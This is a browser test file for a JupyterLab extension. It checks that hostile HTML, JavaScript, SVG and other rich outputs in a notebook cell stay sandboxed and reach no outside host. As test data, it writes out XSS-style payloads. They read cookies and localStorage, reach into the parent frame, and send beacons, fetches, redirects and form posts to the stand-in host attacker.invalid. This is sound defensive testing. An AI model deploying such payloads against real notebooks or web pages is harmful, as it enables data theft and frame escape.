"""Hostile results in a live, trusted cell of a real JupyterLab: what runs reaches nothing."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

if TYPE_CHECKING:
    from tests.browser.conftest import OpenNotebook

pytestmark = pytest.mark.browser

RESULTS = """
import json
from tests.support.hostile import PAGE, SAYINGS
from vibekit_jupyter.workbench.code.run import Opened
from vibekit_jupyter.workbench.code.told import Printed, Shown
from vibekit_jupyter.notebook.render.code_display import code_display

URL = "http://attacker.invalid/"
SCRIPT = f'''<p id=told>waits</p><script>
const tried = [];
const attempt = (name, act) => {{ try {{ act(); tried.push(name); }} catch (error) {{}} }};
attempt("parent", () => {{ parent.document.body.owned = 1; parent.owned = 1; }});
attempt("top", () => {{ top.owned = 1; }});
attempt("cookie", () => document.cookie);
attempt("storage", () => localStorage.length);
fetch("{URL}fetch").catch(() => 0);
new Image().src = "{URL}image";
navigator.sendBeacon("{URL}beacon");
document.getElementById("told").textContent = "ran alone " + tried.join(" ");
</script>'''
PAGES = [
    SCRIPT, PAGE, *SAYINGS,
    f"<script>location.href = '{URL}navigated'</script>",
    f"<meta http-equiv=refresh content='0;url={URL}refreshed'>",
    f"<iframe src='{URL}framed'></iframe>",
    f"<form action='{URL}form' method=post></form><script>document.forms[0].submit()</script>",
    f"<script>window.open('{URL}opened')</script>",
    f"<script>parent.location = '{URL}parent'</script>",
]
VEGA = json.dumps({"data": {"url": URL + "vega"}, "mark": "bar"})
RESULTS = [{"text/html": page} for page in PAGES]
for saying in SAYINGS:
    RESULTS += [{"text/markdown": saying}, {"text/plain": saying}, {"text/latex": f"${saying}$"}]
RESULTS += [
    {"application/javascript": "window.owned = 1"},
    {"application/vnd.vegalite.v5+json": VEGA},
    {"application/vnd.jupyter.widget-view+json": "{}"},
    {"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg' onload='parent.owned = 1'>"
                      f"<image href='{URL}svg'/><script>parent.owned = 1</script></svg>"},
    {"image/png": "' onerror='window.owned = 1"},
]
display = code_display(get_ipython(), "python", owns_cell=True)
display.parts.add(Opened("id", "<script>window.owned = 1</script>", False))
for result in RESULTS:
    display.parts.add(Shown(result, {}))
for saying in SAYINGS:
    display.parts.add(Printed("stdout", saying))
import time
time.sleep(0.2)
display.tick("waits")
time.sleep(0.2)
display.finish()
"""
CONTROL = """
from IPython.display import HTML
HTML("<img src='http://attacker.invalid/control.png' onerror='window.control = 1'>")
"""


def test_results_that_run_reach_nothing_and_all_others_do_not_run(
    open_notebook: OpenNotebook,
) -> None:
    page = open_notebook([RESULTS, CONTROL])
    left: set[tuple[str, str]] = set()
    # A request that a policy refuses is told, too: as one that was blocked.
    page.page.on("requestfailed", lambda one: left.add((one.url, one.failure or "")))
    page.page.on("requestfinished", lambda one: left.add((one.url, "")))
    page.run(0)
    frame = page.outputs(0).frame_locator("iframe").first.frame_locator("iframe")
    frame.get_by_text("ran alone").wait_for()
    assert frame.locator("#told").text_content() == "ran alone "
    page.run(1)
    page.page.wait_for_function("() => window.control === 1")
    assert page.evaluate("() => window.owned") is None
    made = page.outputs(0).locator("mjx-container, script, svg, form, input")
    assert made.evaluate_all("found => found.map(element => element.outerHTML)") == []
    strangers = {(url, why) for url, why in left if "attacker" in url and "control" not in url}
    assert {(url, why) for url, why in strangers if why != "csp"} == set()
    assert len(page.page.context.pages) == 1
